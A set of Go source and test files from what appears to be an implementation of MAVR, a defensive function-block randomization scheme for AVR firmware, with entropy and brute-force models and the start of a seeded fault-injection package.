		if got := p.BlockIndex(b.Start); got != i {
			t.Fatalf("BlockIndex(start of %d) = %d", i, got)
		}
		if got := p.BlockIndex(b.End() - 1); got != i {
			t.Fatalf("BlockIndex(end-1 of %d) = %d", i, got)
		}
	}
}

func identity(n int) []int {
	v := make([]int, n)
	for i := range v {
		v[i] = i
	}
	return v
}

// Applying a permutation and then its inverse restores the original
// image bit for bit — the patcher is lossless (every jmp/call/rjmp/
// rcall/branch/pointer rewrite is exactly invertible).
func TestRandomizeInverseRestoresOriginal(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	rng := rand.New(rand.NewSource(123))
	for trial := 0; trial < 3; trial++ {
		perm := core.Permutation(rng, len(p.Blocks))
		r, err := core.Randomize(p, perm)
		if err != nil {
			t.Fatal(err)
		}
		// Build the preprocessed view of the randomized image: the same
		// blocks at their new starts (sorted by address, as a fresh
		// symbol-table extraction would see them).
		type placed struct {
			orig  int
			start uint32
		}
		order := make([]placed, len(p.Blocks))
		for orig := range p.Blocks {
			order[orig] = placed{orig, r.NewStart[orig]}
		}
		sort.Slice(order, func(i, j int) bool { return order[i].start < order[j].start })
		p2 := &core.Preprocessed{
			Image:       r.Image,
			RegionStart: p.RegionStart,
			RegionEnd:   p.RegionEnd,
			PtrOffsets:  p.PtrOffsets,
		}
		newIndex := make([]int, len(p.Blocks)) // original block -> index in p2
		for i, pl := range order {
			b := p.Blocks[pl.orig]
			p2.Blocks = append(p2.Blocks, core.Block{Name: b.Name, Start: pl.start, Size: b.Size})
			newIndex[pl.orig] = i
		}
		// The inverse permutation lays blocks back in original order.
		inverse := make([]int, len(p.Blocks))
		for k := range p.Blocks { // k-th block in original layout
			inverse[k] = newIndex[k]
		}
		restored, err := core.Randomize(p2, inverse)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(restored.Image, p.Image) {
			for i := range p.Image {
				if restored.Image[i] != p.Image[i] {
					t.Fatalf("trial %d: inverse failed first at byte 0x%X: 0x%02X vs 0x%02X",
						trial, i, restored.Image[i], p.Image[i])
				}
			}
		}
	}
}

// Regression: on the full-size applications, randomization across many
// permutations must never corrupt non-pointer data (mission
// coordinates whose values happen to look like function addresses) or
// overflow 16-bit pointers. This failed before the pointer scan was
// restricted to validated pointer-table objects.
func TestBigAppRandomizeManySeeds(t *testing.T) {
	if testing.Short() {
		t.Skip("full-size generation")
	}
	img, err := firmware.Generate(firmware.Arduplane(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	p, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	// Locate the waypoint bytes inside the flash data-load image.
	wpFlash := img.ELF.DataLMA + uint32(img.Layout.WaypointsAddr) - uint32(img.ELF.DataAddr)
	wpLen := uint32(firmware.WaypointCount * firmware.WaypointSize)
	orig := append([]byte(nil), img.Flash[wpFlash:wpFlash+wpLen]...)

	rng := rand.New(rand.NewSource(0xBEEF))
	for trial := 0; trial < 25; trial++ {
		r, err := core.Randomize(p, core.Permutation(rng, len(p.Blocks)))
		if err != nil {
			t.Fatalf("trial %d: %v", trial, err)
		}
		if !bytes.Equal(r.Image[wpFlash:wpFlash+wpLen], orig) {
			t.Fatalf("trial %d: mission waypoints corrupted by pointer patching", trial)
		}
	}
}

func TestRandomizedMovesAndSymbols(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	r, err := core.Randomize(p, core.Permutation(rand.New(rand.NewSource(4)), len(p.Blocks)))
	if err != nil {
		t.Fatal(err)
	}
	moves := r.Moves(p)
	if len(moves) != len(p.Blocks) {
		t.Fatalf("%d move lines for %d blocks", len(moves), len(p.Blocks))
	}
	syms := r.Symbols(p)
	if len(syms) != len(p.Blocks) {
		t.Fatalf("%d symbols", len(syms))
	}
	// Symbols tile the region in the new order.
	cursor := p.RegionStart
	for i, s := range syms {
		if s.Value != cursor {
			t.Fatalf("symbol %d (%s) at 0x%X, want 0x%X", i, s.Name, s.Value, cursor)
		}
		cursor += s.Size
	}
	if cursor != p.RegionEnd {
		t.Fatalf("symbols end at 0x%X, want 0x%X", cursor, p.RegionEnd)
	}
}

// Pointer-table extraction: the MAVR testapp dispatches through a
// validated function-pointer table in .data, so Preprocess must record
// it with sane geometry — table entries sit inside the flash image and
// each initial word validates as a code pointer.
func TestPreprocessExtractsPointerTables(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	if len(p.PtrTables) == 0 {
		t.Fatal("no pointer tables extracted; the scheduler table lives in .data")
	}
	for _, tab := range p.PtrTables {
		if tab.Words == 0 {
			t.Fatalf("table %s has zero entries", tab.Name)
		}
		end := tab.FlashOff + 2*tab.Words
		if end > uint32(len(p.Image)) {
			t.Fatalf("table %s initializer [0x%X, 0x%X) escapes the image", tab.Name, tab.FlashOff, end)
		}
		for w := uint32(0); w < tab.Words; w++ {
			off := tab.FlashOff + 2*w
			target := (uint32(p.Image[off]) | uint32(p.Image[off+1])<<8) * 2
			if target >= uint32(len(p.Image)) {
				t.Fatalf("table %s word %d points at 0x%X, outside the image", tab.Name, w, target)
			}
		}
	}
	for i := 1; i < len(p.PtrTables); i++ {
		if p.PtrTables[i-1].DataAddr >= p.PtrTables[i].DataAddr {
			t.Fatal("tables not sorted by data address")
		}
	}
}

// The "T" table records survive the prepended-HEX round trip, and a
// malformed T line is rejected rather than silently dropped.
func TestPrependedHexRoundTripsPointerTables(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	if len(p.PtrTables) == 0 {
		t.Fatal("need at least one table to round-trip")
	}
	var buf bytes.Buffer
	if _, err := p.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := core.ReadPreprocessed(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.PtrTables) != len(p.PtrTables) {
		t.Fatalf("round-tripped %d tables, want %d", len(got.PtrTables), len(p.PtrTables))
	}
	for i := range p.PtrTables {
		if got.PtrTables[i] != p.PtrTables[i] {
			t.Fatalf("table %d mismatch: %+v vs %+v", i, got.PtrTables[i], p.PtrTables[i])
		}
	}

	for _, s := range []string{
		"MAVR1 0 0 0x0 0x10\nT\n",
		"MAVR1 0 0 0x0 0x10\nT tbl 0xZZ 0x0 4\n",
		"MAVR1 0 0 0x0 0x10\nT tbl 0x100 0x0\n",
	} {
		if _, err := core.ReadPreprocessed(bytes.NewBufferString(s)); err == nil {
			t.Errorf("malformed T line accepted: %q", s)
		}
	}
}
