package core

import (
	"fmt"
	"io"
)

// StreamRandomize produces the same image as Randomize but emits it
// incrementally to w, holding at most one function block (plus the
// old→new address maps) in memory — the paper's §VI-B3 requirement:
// "each function can be processed in a streaming fashion, eliminating
// the need to fit the entire application into volatile memory".
//
// The output order is physical: the fixed low-flash region (vectors and
// dispatch stubs), then each block at its new home in new-layout order,
// then the bytes above the function region (the .data load image with
// pointers patched, constants, calibration table).
func StreamRandomize(p *Preprocessed, perm []int, w io.Writer) (*Randomized, error) {
	n := len(p.Blocks)
	if len(perm) != n {
		return nil, ErrBadPermutation
	}
	seen := make([]bool, n)
	for _, i := range perm {
		if i < 0 || i >= n || seen[i] {
			return nil, ErrBadPermutation
		}
		seen[i] = true
	}

	r := &Randomized{
		Perm:     append([]int(nil), perm...),
		NewStart: make([]uint32, n),
	}
	cursor := p.RegionStart
	for _, orig := range perm {
		r.NewStart[orig] = cursor
		cursor += p.Blocks[orig].Size
	}
	if cursor != p.RegionEnd {
		return nil, ErrNotTiling
	}
	remap := func(old uint32) uint32 {
		i := p.BlockIndex(old)
		if i < 0 {
			return old
		}
		return r.NewStart[i] + (old - p.Blocks[i].Start)
	}

	// 1. Fixed low-flash code, patched in a bounded scratch buffer.
	head := append([]byte(nil), p.Image[:p.RegionStart]...)
	if err := patchCode(head, 0, 0, p.RegionStart, remap, r); err != nil {
		return nil, err
	}
	if _, err := w.Write(head); err != nil {
		return nil, err
	}

	// 2. Each block: read from the (external-flash) image, patched in a
	// block-sized buffer, streamed out at its new position.
	for _, orig := range perm {
		b := p.Blocks[orig]
		buf := append([]byte(nil), p.Image[b.Start:b.End()]...)
		if err := patchCode(buf, r.NewStart[orig], b.Start, b.End(), remap, r); err != nil {
			return nil, fmt.Errorf("block %q: %w", b.Name, err)
		}
		if _, err := w.Write(buf); err != nil {
			return nil, err
		}
	}

	// 3. Everything above the region, with data-section function
	// pointers patched on the way out.
	tail := append([]byte(nil), p.Image[p.RegionEnd:]...)
	for _, off := range p.PtrOffsets {
		if off < p.RegionEnd {
			continue
		}
		i := off - p.RegionEnd
		v := uint32(tail[i]) | uint32(tail[i+1])<<8
		nw := remap(v*2) / 2
		if nw > 0xFFFF {
			return nil, fmt.Errorf("%w: 0x%X", ErrPointerOverflow, nw*2)
		}
		if nw != v {
			tail[i] = byte(nw)
			tail[i+1] = byte(nw >> 8)
			r.PatchedPointers++
		}
	}
	if _, err := w.Write(tail); err != nil {
		return nil, err
	}
	return r, nil
}
