// Package core implements the MAVR defense (paper §V-§VI): the
// preprocessing phase that extracts function blocks and function
// pointers from an ELF binary, the fine-grained randomization that
// shuffles function blocks, the jump/call/pointer patching that keeps
// the shuffled binary executable, and the security models (entropy,
// brute-force effort) of §V-D and §VIII-B.
package core

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"

	"mavr/internal/elfobj"
	"mavr/internal/hexfile"
)

// Block is one relocatable function block (byte addresses).
type Block struct {
	Name  string
	Start uint32
	Size  uint32
}

// End returns the first byte after the block.
func (b Block) End() uint32 { return b.Start + b.Size }

// PtrTable is one validated function-pointer table in the .data load
// image: a data OBJECT symbol whose every word entry validated as a
// code pointer (a function start or a fixed-region stub/vector slot).
// DataAddr is the table's data-space address once startup has copied
// .data into RAM; FlashOff is the byte offset of its initial values in
// the flash load image; Words counts its 16-bit entries. The static
// verifier's value-set analysis uses these records to resolve indirect
// calls that provably index a validated table.
type PtrTable struct {
	Name     string
	DataAddr uint32
	FlashOff uint32
	Words    uint32
}

// Preprocessed is the artifact the host-side preprocessing phase
// produces and uploads to the external flash chip (paper §VI-B2): the
// flat binary plus the symbol information MAVR needs at runtime.
type Preprocessed struct {
	// Image is the flat flash image.
	Image []byte
	// Blocks are the function blocks sorted by start address, exactly
	// tiling [RegionStart, RegionEnd).
	Blocks []Block
	// RegionStart and RegionEnd delimit the shuffleable region. Code
	// below RegionStart (interrupt vectors, dispatch stubs) is fixed
	// but patched; bytes at RegionEnd and above (the .data load image,
	// constant tables) are fixed and opaque.
	RegionStart uint32
	RegionEnd   uint32
	// PtrOffsets are flash byte offsets of 16-bit function pointers
	// (word addresses) that must be patched when their targets move.
	PtrOffsets []uint32
	// PtrTables records the validated pointer tables the PtrOffsets
	// were found in, sorted by DataAddr.
	PtrTables []PtrTable
}

// Preprocessing errors.
var (
	ErrNoFunctions  = errors.New("core: binary has no function symbols")
	ErrNotTiling    = errors.New("core: function blocks do not tile the text region")
	ErrBadPrepended = errors.New("core: malformed preprocessed image")
)

// Preprocess parses an AVR ELF executable and extracts everything the
// MAVR master processor needs: the ordered function-block list and the
// locations of function pointers in the binary's data load image.
func Preprocess(elf *elfobj.File) (*Preprocessed, error) {
	funcs := elf.FuncSymbols()
	if len(funcs) == 0 {
		return nil, ErrNoFunctions
	}
	p := &Preprocessed{Image: append([]byte(nil), elf.Text...)}
	for _, s := range funcs {
		p.Blocks = append(p.Blocks, Block{Name: s.Name, Start: s.Value, Size: s.Size})
	}
	sort.Slice(p.Blocks, func(i, j int) bool { return p.Blocks[i].Start < p.Blocks[j].Start })
	p.RegionStart = p.Blocks[0].Start
	p.RegionEnd = p.Blocks[len(p.Blocks)-1].End()
	for i := 1; i < len(p.Blocks); i++ {
		if p.Blocks[i].Start != p.Blocks[i-1].End() {
			return nil, fmt.Errorf("%w: gap between %q and %q at 0x%X",
				ErrNotTiling, p.Blocks[i-1].Name, p.Blocks[i].Name, p.Blocks[i-1].End())
		}
	}

	// Scan the .data load image for function pointers (vtables, dispatch
	// arrays) that must be patched when their targets move (paper
	// §VI-B2). Scanning every data word for values that look like
	// function starts false-positives on ordinary data (e.g. mission
	// coordinates), so the scan is structured: a data OBJECT symbol is
	// treated as a pointer table only if every one of its word entries
	// validates as a code pointer — either a function start (patched
	// when the block moves) or an address in the fixed low-flash
	// stub/vector region (needs no patching).
	starts := make(map[uint32]bool, len(p.Blocks))
	for _, b := range p.Blocks {
		starts[b.Start] = true
	}
	wordAt := func(off uint32) (uint32, bool) {
		if int(off)+1 >= len(p.Image) {
			return 0, false
		}
		return uint32(p.Image[off]) | uint32(p.Image[off+1])<<8, true
	}
	for _, s := range elf.Symbols {
		if s.Kind != elfobj.SymObject || s.Size == 0 || s.Size%2 != 0 {
			continue
		}
		if s.Value < uint32(elf.DataAddr) || s.Value+s.Size > uint32(elf.DataAddr)+uint32(len(elf.Data)) {
			continue
		}
		base := elf.DataLMA + (s.Value - elf.DataAddr)
		allValid := true
		var funcEntries []uint32
		for off := base; off < base+s.Size; off += 2 {
			w, ok := wordAt(off)
			if !ok {
				allValid = false
				break
			}
			switch {
			case starts[w*2]:
				funcEntries = append(funcEntries, off)
			case w*2 < p.RegionStart:
				// fixed-region code pointer (dispatch stub): valid,
				// unpatched.
			default:
				allValid = false
			}
			if !allValid {
				break
			}
		}
		if allValid {
			p.PtrOffsets = append(p.PtrOffsets, funcEntries...)
			p.PtrTables = append(p.PtrTables, PtrTable{
				Name:     s.Name,
				DataAddr: s.Value,
				FlashOff: base,
				Words:    s.Size / 2,
			})
		}
	}
	sort.Slice(p.PtrTables, func(i, j int) bool { return p.PtrTables[i].DataAddr < p.PtrTables[j].DataAddr })
	return p, nil
}

// BlockIndex returns the index of the block containing byte address
// addr via binary search (largest start <= addr, the §VI-B3 algorithm),
// or -1 if addr is outside the shuffleable region.
func (p *Preprocessed) BlockIndex(addr uint32) int {
	if addr < p.RegionStart || addr >= p.RegionEnd {
		return -1
	}
	i := sort.Search(len(p.Blocks), func(i int) bool { return p.Blocks[i].Start > addr }) - 1
	return i
}

// WriteTo serializes the preprocessed image in the format uploaded to
// the external flash chip: a symbol-table header prepended to the Intel
// HEX of the binary (paper Fig. 9).
func (p *Preprocessed) WriteTo(w io.Writer) (int64, error) {
	var sb strings.Builder
	fmt.Fprintf(&sb, "MAVR1 %d %d 0x%X 0x%X\n", len(p.Blocks), len(p.PtrOffsets), p.RegionStart, p.RegionEnd)
	for _, b := range p.Blocks {
		fmt.Fprintf(&sb, "S %s 0x%X 0x%X\n", b.Name, b.Start, b.Size)
	}
	for _, off := range p.PtrOffsets {
		fmt.Fprintf(&sb, "P 0x%X\n", off)
	}
	// "T" table records postdate the MAVR1 header and are intentionally
	// not counted there: older readers that only consume the counted S/P
	// lines would choke on them anyway, while ReadPreprocessed peeks for
	// them before the HEX body (which always begins with ':').
	for _, t := range p.PtrTables {
		fmt.Fprintf(&sb, "T %s 0x%X 0x%X %d\n", t.Name, t.DataAddr, t.FlashOff, t.Words)
	}
	hex, err := hexfile.EncodeToString(p.Image)
	if err != nil {
		return 0, err
	}
	sb.WriteString(hex)
	n, err := io.WriteString(w, sb.String())
	return int64(n), err
}

// LoadImage parses a base firmware image in either supported container
// format into a reusable Preprocessed handle: an ELF executable (the
// toolchain artifact) or the prepended-HEX external-flash format a
// previous Preprocess emitted. The returned handle is immutable under
// Randomize, so one LoadImage call can back arbitrarily many
// permutations of the same base image — the entry point batch services
// (cmd/mavr-armory) key their content-addressed caches on.
func LoadImage(data []byte) (*Preprocessed, error) {
	if len(data) >= 4 && data[0] == 0x7F && data[1] == 'E' && data[2] == 'L' && data[3] == 'F' {
		elf, err := elfobj.Parse(data)
		if err != nil {
			return nil, err
		}
		return Preprocess(elf)
	}
	if len(data) >= 5 && string(data[:5]) == "MAVR1" {
		return ReadPreprocessed(bytes.NewReader(data))
	}
	return nil, fmt.Errorf("%w: neither ELF nor prepended-HEX", ErrBadPrepended)
}

// ReadPreprocessed parses the prepended-HEX format back.
func ReadPreprocessed(r io.Reader) (*Preprocessed, error) {
	br := bufio.NewReader(r)
	header, err := br.ReadString('\n')
	if err != nil {
		return nil, err
	}
	fields := strings.Fields(header)
	if len(fields) != 5 || fields[0] != "MAVR1" {
		return nil, ErrBadPrepended
	}
	nBlocks, err1 := strconv.Atoi(fields[1])
	nPtrs, err2 := strconv.Atoi(fields[2])
	regStart, err3 := strconv.ParseUint(fields[3], 0, 32)
	regEnd, err4 := strconv.ParseUint(fields[4], 0, 32)
	if err1 != nil || err2 != nil || err3 != nil || err4 != nil {
		return nil, ErrBadPrepended
	}
	p := &Preprocessed{RegionStart: uint32(regStart), RegionEnd: uint32(regEnd)}
	for i := 0; i < nBlocks; i++ {
		line, err := br.ReadString('\n')
		if err != nil {
			return nil, ErrBadPrepended
		}
		f := strings.Fields(line)
		if len(f) != 4 || f[0] != "S" {
			return nil, ErrBadPrepended
		}
		start, err1 := strconv.ParseUint(f[2], 0, 32)
		size, err2 := strconv.ParseUint(f[3], 0, 32)
		if err1 != nil || err2 != nil {
			return nil, ErrBadPrepended
		}
		p.Blocks = append(p.Blocks, Block{Name: f[1], Start: uint32(start), Size: uint32(size)})
	}
	for i := 0; i < nPtrs; i++ {
		line, err := br.ReadString('\n')
		if err != nil {
			return nil, ErrBadPrepended
		}
		f := strings.Fields(line)
		if len(f) != 2 || f[0] != "P" {
			return nil, ErrBadPrepended
		}
		off, err := strconv.ParseUint(f[1], 0, 32)
		if err != nil {
			return nil, ErrBadPrepended
		}
		p.PtrOffsets = append(p.PtrOffsets, uint32(off))
	}
	for {
		peek, err := br.Peek(1)
		if err != nil {
			return nil, ErrBadPrepended
		}
		if peek[0] != 'T' {
			break
		}
		line, err := br.ReadString('\n')
		if err != nil {
			return nil, ErrBadPrepended
		}
		f := strings.Fields(line)
		if len(f) != 5 || f[0] != "T" {
			return nil, ErrBadPrepended
		}
		dataAddr, err1 := strconv.ParseUint(f[2], 0, 32)
		flashOff, err2 := strconv.ParseUint(f[3], 0, 32)
		words, err3 := strconv.ParseUint(f[4], 0, 32)
		if err1 != nil || err2 != nil || err3 != nil {
			return nil, ErrBadPrepended
		}
		p.PtrTables = append(p.PtrTables, PtrTable{
			Name:     f[1],
			DataAddr: uint32(dataAddr),
			FlashOff: uint32(flashOff),
			Words:    uint32(words),
		})
	}
	img, err := hexfile.Decode(br)
	if err != nil {
		return nil, err
	}
	p.Image = img
	return p, nil
}
