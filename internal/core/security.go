package core

import (
	"math"
	"math/big"
	"math/rand"
)

// EntropyBits returns log2(n!) — the randomization entropy of shuffling
// n function blocks. For ArduRover's 800 symbols the paper reports 6567
// bits (§VIII-B).
func EntropyBits(n int) float64 {
	lg, _ := math.Lgamma(float64(n) + 1)
	return lg / math.Ln2
}

// Factorial returns n! exactly.
func Factorial(n int) *big.Int {
	return new(big.Int).MulRange(1, int64(n))
}

// ExpectedAttemptsFixed returns the expected number of brute-force
// attempts against a single fixed permutation, (N+1)/2 with N = n!
// (§V-D): each failed attempt eliminates one permutation.
func ExpectedAttemptsFixed(n int) *big.Float {
	N := new(big.Float).SetInt(Factorial(n))
	N.Add(N, big.NewFloat(1))
	return N.Quo(N, big.NewFloat(2))
}

// ExpectedAttemptsRerandomized returns the expected attempts against
// MAVR, which re-randomizes after every detected failure: guesses are
// with replacement, so the expectation is N = n! (§V-D).
func ExpectedAttemptsRerandomized(n int) *big.Float {
	return new(big.Float).SetInt(Factorial(n))
}

// BruteForceResult summarizes a Monte-Carlo brute-force experiment.
type BruteForceResult struct {
	N             int   // block count
	Permutations  int64 // n!
	Trials        int
	MeanAttempts  float64
	ModelAttempts float64
}

// SimulateBruteForceFixed measures the average number of guesses an
// attacker needs against a fixed permutation when each failed guess is
// eliminated (the software-only deployment of §VIII-A). The result
// converges to (n!+1)/2.
func SimulateBruteForceFixed(rng *rand.Rand, n, trials int) BruteForceResult {
	nPerm := factInt(n)
	var total float64
	for t := 0; t < trials; t++ {
		secret := rng.Intn(int(nPerm))
		// Attacker enumerates candidate permutations in random order
		// without repetition.
		order := rng.Perm(int(nPerm))
		for i, guess := range order {
			if guess == secret {
				total += float64(i + 1)
				break
			}
		}
	}
	model, _ := ExpectedAttemptsFixed(n).Float64()
	return BruteForceResult{
		N: n, Permutations: nPerm, Trials: trials,
		MeanAttempts:  total / float64(trials),
		ModelAttempts: model,
	}
}

// SimulateBruteForceRerandomized measures the average guesses against
// MAVR: after every failed attempt the master processor re-randomizes,
// so previous failures carry no information. The result converges to
// n!.
func SimulateBruteForceRerandomized(rng *rand.Rand, n, trials int) BruteForceResult {
	nPerm := factInt(n)
	var total float64
	for t := 0; t < trials; t++ {
		attempts := 0
		for {
			attempts++
			secret := rng.Intn(int(nPerm)) // fresh permutation each attempt
			guess := rng.Intn(int(nPerm))
			if guess == secret {
				break
			}
		}
		total += float64(attempts)
	}
	model, _ := ExpectedAttemptsRerandomized(n).Float64()
	return BruteForceResult{
		N: n, Permutations: nPerm, Trials: trials,
		MeanAttempts:  total / float64(trials),
		ModelAttempts: model,
	}
}

// PaddingEntropyBits returns the additional entropy from inserting
// random padding between function blocks — the §VIII-B extension the
// authors considered and rejected as unnecessary. Distributing
// freeWords words of padding across the n+1 gaps around n blocks
// yields C(freeWords+n, n) layouts, i.e. log2 of that many extra bits.
// On the APM the free flash is small (the reason the idea was
// considered at all), so the gain is negligible next to the n! of the
// permutation itself.
func PaddingEntropyBits(n, freeWords int) float64 {
	if n <= 0 || freeWords <= 0 {
		return 0
	}
	// log2 C(freeWords+n, n) via lgamma.
	lg := func(x int) float64 {
		v, _ := math.Lgamma(float64(x) + 1)
		return v
	}
	return (lg(freeWords+n) - lg(n) - lg(freeWords)) / math.Ln2
}

func factInt(n int) int64 {
	f := int64(1)
	for i := 2; i <= n; i++ {
		f *= int64(i)
	}
	return f
}
