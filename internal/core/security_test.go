package core_test

import (
	"math"
	"testing"

	"mavr/internal/core"
)

func TestFactorialSmall(t *testing.T) {
	want := []int64{1, 1, 2, 6, 24, 120, 720}
	for n, w := range want {
		if got := core.Factorial(n).Int64(); got != w {
			t.Errorf("%d! = %d, want %d", n, got, w)
		}
	}
}

func TestEntropyMonotonic(t *testing.T) {
	prev := 0.0
	for n := 2; n <= 1200; n += 50 {
		bits := core.EntropyBits(n)
		if bits <= prev {
			t.Fatalf("entropy not monotonic at n=%d", n)
		}
		prev = bits
	}
}

// §VIII-B: random inter-function padding would add entropy, but the
// permutation alone is already computationally secure — the paper's
// reason for leaving padding out.
func TestPaddingEntropyUnnecessary(t *testing.T) {
	// ArduRover: 800 blocks. Free flash after the 177556-byte image on
	// a 256KB part: ~42K words of padding budget.
	perm := core.EntropyBits(800)
	pad := core.PaddingEntropyBits(800, (262144-177556)/2)
	if pad <= 0 {
		t.Fatal("padding entropy should be positive")
	}
	if pad >= perm {
		t.Errorf("padding entropy %.0f bits exceeds the permutation's %.0f", pad, perm)
	}
	// The permutation alone is computationally secure by a huge margin
	// (the paper quotes 6567 bits), so padding is unnecessary.
	if perm < 128 {
		t.Errorf("permutation entropy %.0f bits not computationally secure", perm)
	}
	t.Logf("permutation %.0f bits; padding could add %.0f more (unnecessary)", perm, pad)
}

func TestPaddingEntropyEdgeCases(t *testing.T) {
	if got := core.PaddingEntropyBits(0, 100); got != 0 {
		t.Errorf("no blocks -> %f", got)
	}
	if got := core.PaddingEntropyBits(10, 0); got != 0 {
		t.Errorf("no free space -> %f", got)
	}
	// One block, F free words: F+1 placements -> log2(F+1).
	got := core.PaddingEntropyBits(1, 7)
	if math.Abs(got-3) > 1e-9 {
		t.Errorf("C(8,1) = 8 layouts -> 3 bits, got %f", got)
	}
}

func TestExpectedAttemptsLargeN(t *testing.T) {
	// For 800 blocks the expectation is astronomically large but must
	// still be computable (big-float path).
	v := core.ExpectedAttemptsRerandomized(800)
	if v.Sign() <= 0 {
		t.Error("expected attempts not positive")
	}
	exp := v.MantExp(nil)
	if math.Abs(float64(exp)-core.EntropyBits(800)) > 2 {
		t.Errorf("attempts exponent %d inconsistent with entropy %.0f", exp, core.EntropyBits(800))
	}
}
