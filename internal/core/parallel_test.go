package core

import (
	"math"
	"testing"
)

// The worker-pool brute-force sweeps must be bit-identical for a fixed
// seed no matter how many workers run them: chunk layout and per-chunk
// RNG streams depend only on (seed, trials), and totals are reduced in
// chunk order.
func TestBruteForceParallelDeterministic(t *testing.T) {
	for _, n := range []int{3, 4, 5} {
		base := SimulateBruteForceFixedParallel(7, n, 1000, 1)
		for _, workers := range []int{2, 4, 8} {
			got := SimulateBruteForceFixedParallel(7, n, 1000, workers)
			if got.MeanAttempts != base.MeanAttempts {
				t.Errorf("fixed n=%d: workers=%d mean %v != workers=1 mean %v",
					n, workers, got.MeanAttempts, base.MeanAttempts)
			}
		}
		baseR := SimulateBruteForceRerandomizedParallel(7, n, 1000, 1)
		for _, workers := range []int{2, 4, 8} {
			got := SimulateBruteForceRerandomizedParallel(7, n, 1000, workers)
			if got.MeanAttempts != baseR.MeanAttempts {
				t.Errorf("rerandomized n=%d: workers=%d mean %v != workers=1 mean %v",
					n, workers, got.MeanAttempts, baseR.MeanAttempts)
			}
		}
	}
}

// Different seeds must produce different streams (guards against a
// chunkRNG regression that collapses seeds into one orbit position).
func TestBruteForceParallelSeedSensitivity(t *testing.T) {
	a := SimulateBruteForceFixedParallel(1, 4, 2000, 4)
	b := SimulateBruteForceFixedParallel(2, 4, 2000, 4)
	if a.MeanAttempts == b.MeanAttempts {
		t.Errorf("seeds 1 and 2 produced identical means (%v); RNG streams not seed-dependent", a.MeanAttempts)
	}
}

// The parallel sweeps must converge to the closed-form models of §V-D,
// like the sequential ones (guards against chunk-stream overlap bias:
// a linear SplitMix64 seed schedule converges to the wrong mean).
func TestBruteForceParallelMatchesModels(t *testing.T) {
	const trials = 60_000
	for _, n := range []int{3, 4} {
		fixed := SimulateBruteForceFixedParallel(11, n, trials, 8)
		if rel := math.Abs(fixed.MeanAttempts-fixed.ModelAttempts) / fixed.ModelAttempts; rel > 0.03 {
			t.Errorf("fixed n=%d: mean %.3f vs model %.3f (rel err %.3f)",
				n, fixed.MeanAttempts, fixed.ModelAttempts, rel)
		}
		rer := SimulateBruteForceRerandomizedParallel(11, n, trials, 8)
		if rel := math.Abs(rer.MeanAttempts-rer.ModelAttempts) / rer.ModelAttempts; rel > 0.05 {
			t.Errorf("rerandomized n=%d: mean %.3f vs model %.3f (rel err %.3f)",
				n, rer.MeanAttempts, rer.ModelAttempts, rel)
		}
	}
}
