package chaos

import (
	"fmt"
	"strings"
)

// Event is one scheduled board fault, as it would fire against a
// driver that skips fate checks while a hang/stall window runs.
type Event struct {
	Tick  uint64
	SysID byte
	Kind  BoardFaultKind
	// Ticks is the window length for hang/stall events.
	Ticks int
}

func (e Event) String() string {
	if e.Ticks > 0 {
		return fmt.Sprintf("tick=%d v%d %s ticks=%d", e.Tick, e.SysID, e.Kind, e.Ticks)
	}
	return fmt.Sprintf("tick=%d v%d %s", e.Tick, e.SysID, e.Kind)
}

// BoardSchedule enumerates the board faults the engine would inject
// against vehicles 1..vehicles over the first ticks ticks, in
// (sysID, tick) order. It models the driver contract: after a
// hang/stall event, fate checks resume only once the window has
// elapsed (a panicking driver restarts on the next tick — the restart
// backoff happens in wall time and does not consume ticks).
func (c Config) BoardSchedule(vehicles int, ticks uint64) []Event {
	if !c.BoardActive() {
		return nil
	}
	var events []Event
	for v := 1; v <= vehicles; v++ {
		sysID := byte(v)
		for t := uint64(0); t < ticks; t++ {
			f := c.BoardFate(sysID, t)
			if f.Kind == FaultNone {
				continue
			}
			events = append(events, Event{Tick: t, SysID: sysID, Kind: f.Kind, Ticks: f.Ticks})
			if f.Ticks > 0 {
				t += uint64(f.Ticks)
			}
		}
	}
	return events
}

// LinkDigest folds the first seqs link fates of every direction of
// vehicles 1..vehicles into one hash: a compact fingerprint of the
// whole link-fault schedule, printable next to the board schedule so
// two runs of the same seed can be byte-compared.
func (c Config) LinkDigest(vehicles int, seqs uint32) uint64 {
	h := uint64(0xcbf29ce484222325)
	mix := func(x uint64) {
		h ^= x
		h *= 0x100000001b3
	}
	for v := 1; v <= vehicles; v++ {
		sysID := byte(v)
		for _, dir := range []Dir{Down, Up} {
			for s := uint32(0); s < seqs; s++ {
				if c.Partitioned(dir, sysID, s) {
					mix(uint64(s)<<1 | 1)
				}
				if cor, ok := c.Corrupt(dir, sysID, s); ok {
					mix(cor.Offset ^ uint64(cor.XOR))
				}
			}
		}
	}
	return h
}

// ScheduleTrace renders the full deterministic schedule (board events
// plus the link digest) as a text block — the byte-identical-per-seed
// artifact cmd/mavr-chaos prints and CI diffs across runs.
func (c Config) ScheduleTrace(vehicles int, ticks uint64) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "chaos seed=%d vehicles=%d ticks=%d\n", c.Seed, vehicles, ticks)
	for _, e := range c.BoardSchedule(vehicles, ticks) {
		fmt.Fprintf(&sb, "board %s\n", e)
	}
	fmt.Fprintf(&sb, "linkdigest %016x\n", c.LinkDigest(vehicles, uint32(ticks)))
	return sb.String()
}
