// Package chaos is the deterministic, seeded fault-injection engine
// behind the fleet's resilience surface. It schedules the faults a
// deployed MAVR ground segment must survive — board panics and hangs,
// clock stalls, link partitions (symmetric or asymmetric), datagram
// corruption and session churn — as pure functions of
// (seed, fault kind, entity, tick), exactly like the link simulator's
// Fate (internal/netlink): no shared RNG state, no wall clock, so the
// same seed always yields the same schedule regardless of goroutine
// interleaving, worker counts or host machine. That purity is what
// lets a chaos soak print a byte-identical schedule trace per seed
// (cmd/mavr-chaos -schedule) and lets internal/scenario bake chaos
// into golden conformance traces.
//
// The engine only decides *what* goes wrong and *when*; realizing the
